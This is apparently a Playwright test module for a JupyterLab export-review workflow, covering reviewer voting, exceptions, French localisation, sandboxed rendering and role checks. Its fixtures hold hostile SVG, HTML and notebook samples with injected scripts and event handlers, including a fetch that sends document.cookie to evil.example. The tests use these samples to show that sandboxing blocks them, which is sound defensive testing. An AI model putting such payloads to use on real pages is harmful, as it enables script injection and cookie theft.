"""Review in JupyterLab, in a real browser (Debian ``chromium`` through Playwright) under a
real ``hdh up``.

alice submits an export request of four outputs: a table that fails the disclosure checks
(a count under the threshold) and three hostile files (a notebook, an SVG and an HTML page
whose scripts would mark ``window.top`` and call another host). bob, a reviewer, logs in,
opens his review workspace (``/hub/spawn/bob/review``): the HDH panel says no dataset is
mounted there and calls no bridge route, the review widget opens on load, asks him to sign
in to the review service (a new tab) and retries when he comes back. The queue lists
alice's request with its age and "awaiting you"; its page shows each file's checks and its
rendering in ``<iframe sandbox="">`` served by the control plane under ``/services/hdh/``;
he is refused an approval without an exception (the API's one line), records the
exception, approves (the audited cell that wrote the table is there as its provenance), and
leaves a private comment. carol (committee) does the same in French, with no English string
of the extension on screen; once every file has both votes, bob returns the request (refused
first without a reason), and the queue files it under the decided. Nothing of the hostile files
runs or calls another host; a researcher can neither spawn ``review`` nor use the queue,
and the API refuses her the renderings and the votes.

Screenshots: ``docs/screenshots/review-lab-queue.png``, ``review-lab-request.png``,
``review-lab-request-fr.png``. One ``hdh up`` for this module (``tests/hub/
test_embedded_hub.py``'s ``up``); one Chromium for its tests, one context per person.
"""

from __future__ import annotations

import contextlib
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from tests.hub.test_embedded_hub import (  # noqa: F401  (up: the module fixture)
    Up,
    _lab_session,
    execute,
    spawn,
    up,
    wait_ready,
)
from tests.ui.test_french_browser import LANGUAGE, english_left
from tests.ui.test_hdh_panel import fetch
from tests.ui.test_jupyterlab_browser import (
    _CSP_LISTENER,
    CHROMIUM,
    CHROMIUM_ARGS,
    SHOTS,
    TIMEOUT_MS,
    Lab,
    _ui_problem,
)
from tests.ui.test_labextension import EXT_DIR

pytestmark = [
    pytest.mark.skipif(_ui_problem() is not None, reason=str(_ui_problem())),
    pytest.mark.skipif(
        not (EXT_DIR / "package.json").is_file(),
        reason="built extension missing: run scripts/build-labextension",
    ),
]

MAX_SHOT_BYTES = 250_000
PREFIX = "/services/hdh/"
WIDGET = "#jp-hdh-review"

#: What a hostile file's script would leave on the lab's window (none may appear).
MARK = "top.__hdhPwned='%s';top.document.title='PWNED'"
EVIL = "https://evil.example"
COUNTS = "region,patients\nnorth,7\nsouth,145\n"  # 7 < 11: the threshold check fails
#: The audited cell that writes the table (its provenance, as the reviewers see it).
CELL = (
    "import os\nos.makedirs('out', exist_ok=True)\n"
    f"open('out/counts.csv', 'w').write({COUNTS!r})\nprint('table written')"
)
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40" '
    f'onload="{MARK % "svg-onload"}">'
    f"<script>{MARK % 'svg-script'};fetch('{EVIL}/svg')</script>"
    f'<image href="{EVIL}/svg.png" width="10" height="10"/>'
    '<text x="4" y="24">hostile-svg-figure</text></svg>'
)
HTML = (
    "<!DOCTYPE html><html><head>"
    f'<meta http-equiv="refresh" content="0;url={EVIL}/refresh">'
    f'<link rel="stylesheet" href="{EVIL}/style.css"></head><body>'
    f"<script>{MARK % 'html-script'};fetch('{EVIL}/html?c='+document.cookie)</script>"
    f'<img src="{EVIL}/pixel.png" onerror="{MARK % "html-onerror"}">'
    f'<iframe src="{EVIL}/frame"></iframe>'
    "<p>hostile-html-report</p></body></html>"
)
NOTEBOOK = {
    "nbformat": 4,
    "nbformat_minor": 5,
    "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3"}},
    "cells": [
        {
            "cell_type": "markdown",
            "id": "m1",
            "metadata": {},
            "source": f'<img src=x onerror="{MARK % "md-onerror"}"> hostile-notebook-cell',
        },
        {
            "cell_type": "code",
            "id": "c1",
            "metadata": {},
            "execution_count": 1,
            "source": "display(table)",
            "outputs": [
                {
                    "output_type": "display_data",
                    "metadata": {},
                    "data": {
                        "text/html": (
                            f"<script>{MARK % 'nb-script'}</script>"
                            f'<svg onload="{MARK % "nb-svg"}"></svg>'
                            f'<img src="{EVIL}/nb.png"><b>counts</b>'
                        ),
                        "application/javascript": MARK % "nb-js",
                        "text/plain": "table",
                    },
                }
            ],
        },
    ],
}
FILES = {
    "out/counts.csv": COUNTS,  # written by CELL in alice's sandbox
    "out/figure.svg": SVG,
    "out/report.html": HTML,
    "out/analysis.ipynb": json.dumps(NOTEBOOK),
}


@dataclass
class Person:
    """One person's browser context: their lab page and everything it did."""

    name: str
    page: Any
    base: str
    urls: list[str] = field(default_factory=list)
    events: list[str] = field(default_factory=list)
    renders: list[tuple[int, str, str]] = field(default_factory=list)

    @property
    def lab(self) -> Lab:
        return Lab(self.page, self.base)

    def hosts(self) -> set[str]:
        return {urlsplit(u).hostname or "" for u in self.urls if not u.startswith("data:")}


@pytest.fixture(scope="module")
def request_id(up: Up) -> int:  # noqa: F811
    # alice's cell writes the table in her sandbox (audited through the guard)
    base = "/user/alice/demo/"
    with up.api("alice") as api:
        spawned = spawn(api, "alice", "demo")
        assert spawned.status_code in (201, 202), spawned.text
        wait_ready(api, "alice", "demo")
    client = _lab_session(up, "alice", base)
    try:
        out, _ = execute(up, client, base, CELL)
    finally:
        client.close()
    assert out.strip() == "table written", out
    workspace = up.data_dir / "workspaces" / "demo"
    assert (workspace / "out" / "counts.csv").read_text() == COUNTS
    for path, text in FILES.items():
        if path != "out/counts.csv":
            (workspace / path).write_text(text)
    r = up.hdh(
        "egress", "submit", *FILES, "--as", "alice", "--project", "demo",
        "--title", "Readmission rates by region", "--json",
    )  # fmt: skip
    assert r.returncode == 0, r.stderr
    view = json.loads(r.stdout)
    checks = {f["path"]: f["check_status"] for f in view["files"]}
    assert checks["out/counts.csv"] == "fail", checks
    return int(view["id"])


@pytest.fixture(scope="module")
def chromium() -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            yield browser
        finally:
            browser.close()


def person(
    chromium: Any,
    up: Up,  # noqa: F811
    name: str,
    server: str,
    locale: str = "en-US",
) -> Person:
    """``name`` logged in to the hub, on ``/hub/spawn/<name>/<server>`` (their lab once it
    runs), every request of the page recorded; ``locale`` is the browser's language (its
    ``Accept-Language``, which the control plane's renderings follow)."""
    context = chromium.new_context(viewport={"width": 1400, "height": 900}, locale=locale)
    context.add_init_script(_CSP_LISTENER)
    page = context.new_page()
    page.set_default_timeout(TIMEOUT_MS)
    page.set_default_navigation_timeout(TIMEOUT_MS)
    who = Person(name, page, f"/user/{name}/{server}/")
    # every request of every page and frame of this context (popups included)
    context.on("request", lambda req: who.urls.append(req.url))
    context.on(
        "response",
        lambda r: (
            who.renders.append((r.status, r.url, r.headers.get("content-security-policy", "")))
            if "/render?" in r.url
            else None
        ),
    )

    def dialog(d: Any) -> None:
        who.events.append(f"dialog {d.message}")
        d.dismiss()

    page.on("dialog", dialog)
    page.on("console", lambda m: who.events.append(f"[{m.type}] {m.text}"))
    page.on("pageerror", lambda e: who.events.append(f"[pageerror] {e}"))
    page.goto(f"{up.url}/hub/login")
    page.fill("input[name=username]", name)
    page.fill("input[name=password]", up.creds[name]["password"])
    with page.expect_navigation():
        page.click("#login_submit")
    # the hub's login also signs the browser in to its services (a cookie under /services/):
    # dropped, so that the widget meets a browser not yet signed in to the review service
    services = [c["name"] for c in context.cookies() if c["path"].startswith("/services")]
    assert services, context.cookies()
    context.clear_cookies(path=re.compile(r"^/services"))
    return who


def open_lab(who: Person, up: Up) -> None:  # noqa: F811
    server = who.base.rstrip("/").rsplit("/", 1)[1]
    who.page.goto(f"{up.url}/hub/spawn/{who.name}/{server}")
    who.page.wait_for_url(re.compile(re.escape(f"{up.url}{who.base}lab")))
    who.page.locator("#jp-main-dock-panel").wait_for(state="visible")


def sign_in(who: Person, link_text: str) -> Any:
    """The widget's first answer: the sign-in link (a new tab through the hub's OAuth), then,
    back on the lab, the widget retries by itself. Returns the widget."""
    page = who.page
    widget = page.locator(WIDGET)
    widget.wait_for(state="visible")
    link = widget.locator(".jp-hdh-review-signin")
    answered = widget.locator(
        ".jp-hdh-review-signin, .jp-hdh-review-top, .jp-hdh-review-notreviewer, .jp-hdh-error"
    )
    answered.first.wait_for(state="visible")
    assert link.count() == 1, (widget.inner_text(), who.events[-20:])
    assert link.inner_text() == link_text
    assert link.get_attribute("href") == f"{PREFIX}ui/egress/"
    assert link.get_attribute("target") == "_blank"
    assert "noopener" in (link.get_attribute("rel") or "")
    with page.context.expect_page() as opened:
        link.click()
    tab = opened.value
    tab.wait_for_load_state("load")
    assert urlsplit(tab.url).path == f"{PREFIX}ui/egress/", tab.url
    tab.close()
    page.bring_to_front()
    # a headless window gets no OS focus change: send the event a real return would
    page.evaluate("window.dispatchEvent(new Event('focus'))")
    link.wait_for(state="detached")
    return widget


def shoot(page: Any, locator: Any, name: str) -> None:
    SHOTS.mkdir(parents=True, exist_ok=True)
    shot = SHOTS / name
    box = locator.bounding_box()
    assert box is not None
    page.screenshot(path=str(shot), clip={**box, "height": min(box["height"], 900)})
    assert shot.stat().st_size < MAX_SHOT_BYTES, shot.stat().st_size


def frames_are_inert(widget: Any, request_id: int) -> list[str]:
    """Every frame of the widget: ``sandbox=""``, no referrer, no ``srcdoc``, a ``src`` on
    the control plane's render route. Returns the rendered paths."""
    frames = widget.locator("iframe")
    assert frames.count() >= 1
    paths = []
    for i in range(frames.count()):
        f = frames.nth(i)
        assert f.get_attribute("sandbox") == "", f.evaluate("e => e.outerHTML")
        assert f.get_attribute("referrerpolicy") == "no-referrer"
        assert f.get_attribute("srcdoc") is None
        src = f.get_attribute("src") or ""
        route = f"{PREFIX}ui/egress/requests/{request_id}/render?path="
        m = re.fullmatch(re.escape(route) + "(.+)", src)
        assert m, src
        paths.append(m.group(1))
    return paths


def frame_text(who: Person, path: str) -> str:
    """The text of the rendering of ``path`` (Playwright reads the opaque-origin frame)."""
    from urllib.parse import quote

    wanted = f"render?path={quote(path, safe='')}"
    for _ in range(2):
        for frame in who.page.frames:
            if frame.url.endswith(wanted):
                frame.wait_for_load_state("load")
                return str(frame.locator("body").inner_text())
        who.page.wait_for_timeout(500)
    raise AssertionError(f"no frame for {path}: {[f.url for f in who.page.frames]}")


def vote(who: Person, path: str, decision: str, done: str) -> None:
    """``who`` votes on ``path`` in the widget and waits for the vote to be shown."""
    widget = who.page.locator(WIDGET)
    section = widget.locator(f'.jp-hdh-review-file[data-path="{path}"]')
    section.locator(f".jp-hdh-review-vote-{decision}").click()
    section.locator(f'.jp-hdh-review-votes li[data-reviewer="{who.name}"]').wait_for()
    status = who.page.locator(".jp-hdh-review-status")
    assert status.inner_text() == done, status.inner_text()


# --- the tests, in order: they share the hub, the request and the browsers ----------------------

PEOPLE: dict[str, Person] = {}


@pytest.fixture(autouse=True)
def _screenshots_on_failure(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[None]:
    """A failed test leaves each person's page (and what it logged) in its ``tmp_path``."""
    yield
    rep = getattr(request.node, "rep_call", None)
    if rep is None or not rep.failed:
        return
    for who in PEOPLE.values():
        shot = tmp_path / f"failure-{who.name}.png"
        try:
            who.page.screenshot(path=str(shot), full_page=True)
            print(f"screenshot: {shot}")
        except Exception as exc:  # noqa: BLE001 - the page may be gone; the report matters more
            print(f"no screenshot of {who.name}: {exc}")
        print(f"--- {who.name}'s page ---\n" + "\n".join(who.events[-40:]))


def test_a_reviewer_opens_the_queue_in_the_review_workspace(
    up: Up,  # noqa: F811
    chromium: Any,
    request_id: int,
) -> None:
    bob = PEOPLE["bob"] = person(chromium, up, "bob", "review")
    open_lab(bob, up)
    page = bob.page
    # the panel: no dataset here, no bridge call; the review button
    page.locator('.lm-TabBar-tab[data-id="jp-hdh-panel"]').click()
    panel = page.locator("#jp-hdh-panel")
    panel.get_by_text("Review workspace: no dataset is mounted here").wait_for()
    assert panel.locator(".jp-hdh-review-launch").is_visible()
    assert panel.locator('[data-hdh-section="mydata"]').count() == 0
    # the widget opened on load; the review service wants a sign-in first
    widget = sign_in(bob, "Sign in to the review service")
    row = widget.locator(f'.jp-hdh-review-row[data-request-id="{request_id}"]')
    row.wait_for(state="visible")
    text = row.inner_text()
    assert "Readmission rates by region" in text and "alice" in text and "demo" in text, text
    assert row.locator(".jp-hdh-review-awaiting").inner_text() == "awaiting you"
    assert re.fullmatch(r"just now|\d+ min", row.locator(".jp-hdh-review-age").inner_text())
    assert row.locator(".jp-hdh-review-state").inner_text() == "submitted"
    # what awaits him comes first
    first = widget.locator(".jp-hdh-review-row").first
    assert first.get_attribute("data-request-id") == str(request_id)
    status = page.locator(".jp-hdh-review-status")
    assert re.fullmatch(r"1 request awaits your vote\.|\d+ requests await your vote\.",
                        status.inner_text()), status.inner_text()  # fmt: skip
    # the panel asked none of its bridge-backed routes in the review workspace
    panel_routes = re.compile(re.escape(f"{bob.base}hdh/") + r"(mounts|catalogue|egress)")
    assert not [u for u in bob.urls if panel_routes.search(u)], bob.urls
    shoot(page, widget, "review-lab-queue.png")


def test_the_request_shows_checks_renderings_and_takes_votes(
    up: Up,  # noqa: F811
    request_id: int,
) -> None:
    bob = PEOPLE["bob"]
    page = bob.page
    widget = page.locator(WIDGET)
    row = widget.locator(f'.jp-hdh-review-row[data-request-id="{request_id}"]')
    row.locator(".jp-hdh-review-open").click()
    heading = widget.locator(f'h2[data-request-id="{request_id}"]')
    heading.wait_for()
    assert heading.inner_text() == f"Export request #{request_id}: Readmission rates by region"
    counts = widget.locator('.jp-hdh-review-file[data-path="out/counts.csv"]')
    assert counts.locator(".jp-hdh-review-check").inner_text() == "checks failed"
    assert "threshold" in counts.locator(".jp-hdh-review-report").inner_text()
    # every file rendered by the control plane, in a sandboxed frame
    paths = frames_are_inert(widget, request_id)
    assert len(paths) == len(FILES), paths
    assert "north" in frame_text(bob, "out/counts.csv")
    assert "hostile-svg-figure" in frame_text(bob, "out/figure.svg")
    assert "hostile-html-report" in frame_text(bob, "out/report.html")
    for status, url, csp in bob.renders:
        assert status == 200, (status, url)
        assert re.search(r"(^|;)\s*sandbox\s*(;|$)", csp) and "default-src 'none'" in csp, csp
    # its provenance: alice's audited cell that wrote it
    prov = counts.locator(".jp-hdh-review-prov")
    prov.locator("summary").click()
    cell = prov.locator('li[data-kind="execution"]').filter(has_text="table written")
    assert cell.locator("pre").inner_text() == CELL
    assert re.match(r"Cell run by alice at \d{4}-\d\d-\d\d ", cell.inner_text())
    # the fallback: the same request's web page
    fallback = widget.locator(".jp-hdh-review-fallback")
    assert fallback.get_attribute("href") == f"{PREFIX}ui/egress/requests/{request_id}"
    # approving a failing file without an exception: the API's one line, nothing recorded
    counts.locator(".jp-hdh-review-vote-approve").click()
    refused = page.locator(".jp-hdh-review-status.jp-hdh-review-refused")
    refused.wait_for()
    assert "record an exception" in refused.inner_text(), refused.inner_text()
    assert "\n" not in refused.inner_text()
    # the exception, then the approval
    reason = "aggregated to regions of more than 100 000 people; publication rules allow it"
    counts.locator(".jp-hdh-review-exception-reason").fill(reason)
    counts.locator(".jp-hdh-review-exception").click()
    done = page.locator(".jp-hdh-review-status.jp-hdh-review-done")
    done.filter(has_text="Exception recorded.").wait_for()
    counts = widget.locator('.jp-hdh-review-file[data-path="out/counts.csv"]')
    assert counts.locator(".jp-hdh-review-exceptions").inner_text().endswith(f"bob: {reason}")
    vote(bob, "out/counts.csv", "approve", "Vote recorded.")
    counts = widget.locator('.jp-hdh-review-file[data-path="out/counts.csv"]')
    assert counts.locator('.jp-hdh-review-votes li[data-reviewer="bob"]').inner_text() == (
        "bob: approve"
    )
    assert counts.locator(".jp-hdh-review-vote").count() == 0  # votes are final
    # a private comment on the figure
    widget.locator(".jp-hdh-review-comment-body").fill("the SVG carries a script: return it")
    widget.locator(".jp-hdh-review-visibility").select_option("private")
    widget.locator(".jp-hdh-review-about").select_option("out/figure.svg")
    widget.locator(".jp-hdh-review-comment").click()
    page.locator(".jp-hdh-review-status", has_text="Comment added.").wait_for()
    private = widget.locator(".jp-hdh-review-private")
    assert private.inner_text() == "bob (out/figure.svg): the SVG carries a script: return it"
    assert widget.locator(".jp-hdh-review-public").count() == 0
    # the store has them, as the API recorded them
    events = [e for e in up.audit() if e["target"] == f"egress:{request_id}"]
    actions = [(e["action"], e["actor"]) for e in events]
    for want in (("egress.exception", "bob"), ("egress.vote", "bob"), ("egress.comment", "bob")):
        assert want in actions, actions
    counts = widget.locator('.jp-hdh-review-file[data-path="out/counts.csv"]')
    counts.locator(".jp-hdh-review-prov summary").click()  # the shot shows the cell
    counts.scroll_into_view_if_needed()
    shoot(page, widget, "review-lab-request.png")


def test_the_reviewer_reads_the_projects_audited_code(request_id: int) -> None:
    """ "Audited code of project demo" opens the code audit view on the whole project's
    audited code, read from the control plane (the review workspace has no bridge)."""
    bob = PEOPLE["bob"]
    page = bob.page
    widget = page.locator(WIDGET)
    widget.locator(f'h2[data-request-id="{request_id}"]').wait_for()
    before = len(bob.urls)
    widget.locator(".jp-hdh-review-audit").click()
    audit = page.locator("#jp-hdh-audit")
    audit.locator(".jp-hdh-audit-heading", has_text="Audited code of project demo").wait_for()
    cells = audit.locator('.jp-hdh-audit-entry[data-kind="cell"]').filter(has_text="table written")
    cells.first.wait_for()
    assert CELL in cells.locator("pre").all_inner_texts()
    assert audit.locator(".jp-hdh-audit-verified").count() == 1  # the chain checks out
    asked = [u for u in bob.urls[before:] if "audit/code" in u]
    assert asked and all("/services/hdh/api/projects/demo/audit/code" in u for u in asked), asked
    # back to the request (the tab closed, the review widget shown again)
    page.locator('.lm-TabBar-tab[data-id="jp-hdh-audit"] .lm-TabBar-tabCloseIcon').click()
    widget.locator(f'h2[data-request-id="{request_id}"]').wait_for()


def test_hostile_files_run_nothing_and_call_no_other_host(request_id: int) -> None:
    bob = PEOPLE["bob"]
    page = bob.page
    # all four renderings were loaded (the frames of every re-render included)
    rendered = {re.sub(r".*render\?path=", "", u) for s, u, _ in bob.renders if s == 200}
    assert {p.replace("/", "%2F") for p in FILES} <= rendered, rendered
    assert bob.hosts() <= {"127.0.0.1"}, sorted(bob.hosts())
    assert not [u for u in bob.urls if "evil.example" in u]
    assert page.evaluate("window.top.__hdhPwned === undefined")
    assert page.title() != "PWNED"
    assert not [e for e in bob.events if e.startswith("dialog")], bob.events
    # the frames are opaque: the lab's page cannot reach into them, nor they into it
    assert page.evaluate(
        "[...document.querySelectorAll('#jp-hdh-review iframe')]"
        ".every(f => { try { return f.contentDocument === null } catch (e) { return true } })"
    )
    frames_are_inert(page.locator(WIDGET), request_id)
    # and nothing inside a rendering kept a script, a handler or a remote reference
    for frame in page.frames:
        if "/render?" not in frame.url:
            continue
        found = frame.evaluate(
            "[document.querySelectorAll('script, iframe, object, embed').length,"
            " ...[...document.querySelectorAll('*')].flatMap(e => [...e.attributes]"
            ".filter(a => a.name.startsWith('on') || /evil\\.example|javascript:/i.test(a.value))"
            ".map(a => a.name))]"
        )
        assert found == [0], (frame.url, found)


def test_a_committee_member_reviews_in_french(
    up: Up,  # noqa: F811
    chromium: Any,
    request_id: int,
) -> None:
    carol = PEOPLE["carol"] = person(chromium, up, "carol", "review", locale="fr-FR")
    open_lab(carol, up)
    page = carol.page
    # Settings → Language → Français (JupyterLab's own setting), then the page again
    status, body = fetch(carol.lab, LANGUAGE, "PUT", {"raw": json.dumps({"locale": "fr_FR"})})
    assert status == 204, body
    page.reload()
    page.locator("#jp-main-dock-panel").wait_for(state="visible")
    widget = sign_in(carol, "Se connecter au service de revue")
    row = widget.locator(f'.jp-hdh-review-row[data-request-id="{request_id}"]')
    row.wait_for(state="visible")
    assert row.locator(".jp-hdh-review-awaiting").inner_text() == "vous attend"
    assert row.locator(".jp-hdh-review-state").inner_text() in (
        "soumise",
        "partiellement examinée",
    )
    assert re.fullmatch(r"à l'instant|\d+ min", row.locator(".jp-hdh-review-age").inner_text())
    assert english_left(carol.lab, WIDGET) == []
    row.locator(".jp-hdh-review-open").click()
    widget.locator(f'h2[data-request-id="{request_id}"]').wait_for()
    counts = widget.locator('.jp-hdh-review-file[data-path="out/counts.csv"]')
    assert counts.locator(".jp-hdh-review-check").inner_text() == "contrôles en échec"
    # bob's vote and exception stay hidden from her until she votes
    assert counts.locator(".jp-hdh-review-votes h4").inner_text() == "Votes : 1 sur 2"
    assert "bob" not in counts.inner_text()
    frames_are_inert(widget, request_id)
    counts.locator(".jp-hdh-review-exception-reason").fill("agrégé par région : diffusable")
    counts.locator(".jp-hdh-review-exception").click()
    page.locator(".jp-hdh-review-status", has_text="Dérogation enregistrée.").wait_for()
    counts = widget.locator('.jp-hdh-review-file[data-path="out/counts.csv"]')
    vote(carol, "out/counts.csv", "approve", "Vote enregistré.")
    vote(carol, "out/figure.svg", "changes", "Vote enregistré.")
    widget.locator(".jp-hdh-review-comment-body").fill("figure à refaire sans script")
    widget.locator(".jp-hdh-review-visibility").select_option("private")
    widget.locator(".jp-hdh-review-comment").click()
    page.locator(".jp-hdh-review-status", has_text="Commentaire ajouté.").wait_for()
    # her own private comment; bob's on the figure stays hidden until the figure has both votes
    private = widget.locator(".jp-hdh-review-private").inner_text()
    assert private == "carol: figure à refaire sans script", private
    # both voted on the table: the votes and exceptions are now shown, bob's included
    counts = widget.locator('.jp-hdh-review-file[data-path="out/counts.csv"]')
    votes = counts.locator(".jp-hdh-review-votes").inner_text()
    assert "bob: approuver" in votes and "carol: approuver" in votes, votes
    assert english_left(carol.lab, WIDGET) == []
    assert carol.hosts() <= {"127.0.0.1"}, sorted(carol.hosts())
    counts.scroll_into_view_if_needed()
    shoot(page, widget, "review-lab-request-fr.png")
    # back to English for whoever reuses this workspace
    status, body = fetch(carol.lab, LANGUAGE, "PUT", {"raw": json.dumps({"locale": "en"})})
    assert status == 204, body


def test_the_request_is_returned_once_every_file_has_both_votes(
    up: Up,  # noqa: F811
    request_id: int,
) -> None:
    bob, carol = PEOPLE["bob"], PEOPLE["carol"]
    for path in ("out/report.html", "out/analysis.ipynb"):
        vote(carol, path, "reject", "Vote enregistré.")
    widget = bob.page.locator(WIDGET)
    assert widget.locator(".jp-hdh-review-request-actions").count() == 0  # not reviewed yet
    vote(bob, "out/figure.svg", "changes", "Vote recorded.")
    vote(bob, "out/report.html", "reject", "Vote recorded.")
    vote(bob, "out/analysis.ipynb", "changes", "Vote recorded.")
    # every output has its two votes: the request-level decision applies now
    decide = widget.locator(".jp-hdh-review-request-actions")
    decide.wait_for()
    assert "reviewed" in widget.locator(".jp-hdh-review-meta").inner_text()
    assert decide.locator(".jp-hdh-review-release").count() == 0
    # returning needs a reason: the API's one line, nothing changed
    decide.locator(".jp-hdh-review-return").click()
    refused = bob.page.locator(".jp-hdh-review-status.jp-hdh-review-refused")
    refused.wait_for()
    assert "reason" in refused.inner_text() and "\n" not in refused.inner_text()
    reason = "remove the scripts from the figure and the report, then resubmit"
    decide.locator(".jp-hdh-review-decision-reason").fill(reason)
    decide.locator(".jp-hdh-review-return").click()
    bob.page.locator(".jp-hdh-review-status", has_text="Request returned.").wait_for()
    assert "returned" in widget.locator(".jp-hdh-review-meta").inner_text()
    assert widget.locator(".jp-hdh-review-request-actions").count() == 0
    assert widget.locator(".jp-hdh-review-vote").count() == 0
    assert f"bob: {reason}" in widget.locator(".jp-hdh-review-public").inner_text()
    r = up.hdh("egress", "show", str(request_id), "--json")
    assert r.returncode == 0, r.stderr
    assert json.loads(r.stdout)["state"] == "returned"
    # the queue files it under the decided ones, awaiting no one
    widget.locator(".jp-hdh-review-back").click()
    row = widget.locator(
        f'.jp-hdh-review-decided .jp-hdh-review-row[data-request-id="{request_id}"]'
    )
    row.wait_for(state="attached")
    assert row.locator(".jp-hdh-review-awaiting").count() == 0


def test_a_researcher_can_neither_spawn_review_nor_use_the_queue(
    up: Up,  # noqa: F811
    chromium: Any,
    request_id: int,
) -> None:
    from playwright.sync_api import TimeoutError as PlaywrightTimeout

    alice = person(chromium, up, "alice", "demo")
    page = alice.page
    refused = page.goto(f"{up.url}/hub/spawn/alice/review")
    assert refused is not None and refused.status == 403
    assert "review is the reviewers' workspace: alice is a researcher" in page.inner_text("body")
    open_lab(alice, up)
    page.locator(".jp-Launcher").first.wait_for(state="visible")
    palette = page.locator("#command-palette input")
    for _ in range(20):  # the shortcut works once the lab has the keyboard's focus
        page.locator(".jp-Launcher").first.click()
        page.keyboard.press("Control+Shift+C")
        with contextlib.suppress(PlaywrightTimeout):
            palette.wait_for(state="visible", timeout=2_000)
        if palette.is_visible():
            break
    palette.wait_for(state="visible")
    palette.fill("Review export requests")
    page.locator(".lm-CommandPalette-item", has_text="HDH: Review export requests").first.click()
    widget = sign_in(alice, "Sign in to the review service")
    message = widget.locator(".jp-hdh-review-notreviewer")
    message.wait_for(state="visible")
    assert message.inner_text() == (
        "The review queue is for reviewers: your role (researcher) does not review export requests."
    )
    assert widget.locator(".jp-hdh-review-queue, iframe, button").count() == 0
    # the HDH panel offers her no review button
    page.locator('.lm-TabBar-tab[data-id="jp-hdh-panel"]').click()
    page.locator('#jp-hdh-panel [data-hdh-section="mydata"]').wait_for(state="visible")
    assert page.locator(".jp-hdh-review-launch").count() == 0
    # the API refuses her: a rendering, a vote (with the session's token), a cookie-only call
    answers = page.evaluate(
        """async ([prefix, id]) => {
            const s = await (await fetch(prefix + 'ui/api/session')).json();
            const at = `${prefix}ui/egress/requests/${id}`;
            const render = await fetch(`${at}/render?path=out%2Fcounts.csv`);
            const vote = await fetch(`${prefix}api/egress/requests/${id}/votes`, {
              method: 'POST',
              headers: {'Content-Type': 'application/json', 'X-HDH-Token': s.token},
              body: JSON.stringify({path: 'out/counts.csv', decision: 'approve'})
            });
            const bare = await fetch(`${prefix}api/egress/requests/${id}/comments`, {
              method: 'POST',
              headers: {'Content-Type': 'application/json'},
              body: JSON.stringify({body: 'x', visibility: 'private'})
            });
            return [s.may_review, render.status, vote.status, (await vote.json()).detail,
                    bare.status];
        }""",
        [PREFIX, request_id],
    )
    may_review, render, vote, detail, bare = answers
    assert may_review is False
    assert render == 403
    # a browser session is for reviewers: refused before any workflow step
    assert vote == 403 and "\n" not in detail and "for reviewers" in detail, (vote, detail)
    assert bare in (401, 403), bare
    assert alice.hosts() <= {"127.0.0.1"}, sorted(alice.hosts())


def test_an_administrator_reads_every_projects_audited_code(
    up: Up,  # noqa: F811
    chromium: Any,
    request_id: int,
) -> None:
    """ "HDH: Audited code of every project" in an administrator's review workspace: every
    project's code from the control plane, places named with their project, a project filter."""
    from playwright.sync_api import TimeoutError as PlaywrightTimeout

    admin = person(chromium, up, "admin", "review")
    page = admin.page
    open_lab(admin, up)
    sign_in(admin, "Sign in to the review service")
    palette = page.locator("#command-palette input")
    for _ in range(20):  # the shortcut works once the lab has the keyboard's focus
        page.locator("#jp-main-dock-panel").click()
        page.keyboard.press("Control+Shift+C")
        with contextlib.suppress(PlaywrightTimeout):
            palette.wait_for(state="visible", timeout=2_000)
        if palette.is_visible():
            break
    palette.fill("Audited code of every project")
    page.locator(".lm-CommandPalette-item", has_text="HDH: Audited code of every project").click()
    audit = page.locator("#jp-hdh-audit")
    audit.locator(".jp-hdh-audit-heading", has_text="Audited code of every project").wait_for()
    project = audit.locator(".jp-hdh-audit-field", has_text="Project")
    assert project.is_visible()
    cells = audit.locator('.jp-hdh-audit-entry[data-kind="cell"]').filter(has_text="table written")
    cells.first.wait_for()
    written = page.locator('.jp-hdh-audit-entry[data-kind="cell"]', has_text="table written")
    place = audit.locator(".jp-hdh-audit-place", has=written).first.locator("h4").inner_text()
    assert place.startswith("demo · "), place
    asked = [u for u in admin.urls if "audit/code" in u]
    assert asked and all("/services/hdh/api/audit/code" in u for u in asked), asked
    # one project only: a project with no code says so
    project.locator("input").fill("no-such-project")
    audit.locator(".jp-hdh-audit-apply").click()
    audit.locator(".jp-hdh-audit-status", has_text="No audited code matches").wait_for()
    admin.page.context.close()
